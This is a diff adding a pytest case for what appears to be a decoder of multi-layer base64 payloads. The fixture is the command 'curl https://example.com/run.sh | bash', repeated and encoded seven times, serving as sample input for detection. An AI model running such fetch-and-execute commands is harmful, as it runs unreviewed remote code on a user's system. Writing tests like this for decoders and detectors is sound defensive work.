@@ -65,6 +65,20 @@ def test_decode_layers(spark):
     assert layers("24be64439e3e49cf46b2d7c90f3602a3d0b907ff") == []
 
 
+def test_decode_layers_without_limits(spark):
+    """Long payloads and any number of layers."""
+    import base64
+
+    plain = "curl https://example.com/run.sh | bash; " * 50
+    token, layers = plain, []
+    for _ in range(7):
+        layers.append(token.strip())
+        token = base64.b64encode(token.strip().encode()).decode()
+    got = one(spark, D.decode_layers(F.lit(token)))
+    assert got == [f"base64[{i + 1}]: {x}" for i, x in enumerate(reversed(layers))]
+    assert one(spark, D.decode_layers(F.lit("not a token"))) == [] == one(spark, D.decode_layers(F.lit("")))
+
+
 def test_decoded_prompt_override(spark):
     import base64
     import codecs
